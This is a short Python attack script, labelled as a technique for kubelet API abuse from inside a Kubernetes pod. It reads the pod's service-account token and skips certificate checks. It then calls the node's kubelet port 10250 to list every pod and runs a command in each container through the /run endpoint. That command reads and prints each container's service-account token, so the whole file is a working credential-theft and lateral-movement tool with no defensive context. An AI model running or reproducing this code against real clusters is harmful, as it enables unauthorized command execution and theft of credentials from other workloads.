# technique: kubelet API abuse from a pod: hit the node's read-write kubelet port 10250 to list pods and run commands in other containers
import json, ssl, urllib.request, os
ctx = ssl._create_unverified_context()
node = os.environ.get("NODE_IP") or open("/proc/net/route").read() and "10.0.0.1"
tok = ""
try:
    tok = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()
except OSError:
    pass
hdr = {"Authorization": "Bearer " + tok} if tok else {}
pods = json.loads(urllib.request.urlopen(urllib.request.Request(f"https://{node}:10250/pods", headers=hdr), context=ctx, timeout=5).read())
for p in pods.get("items", []):
    ns, name = p["metadata"]["namespace"], p["metadata"]["name"]
    for c in p["spec"]["containers"]:
        url = f"https://{node}:10250/run/{ns}/{name}/{c['name']}"
        try:
            out = urllib.request.urlopen(urllib.request.Request(url, data=b"cmd=cat /var/run/secrets/kubernetes.io/serviceaccount/token", headers=hdr), context=ctx, timeout=5).read()
            print(ns, name, c["name"], out[:60])
        except Exception as e:
            pass
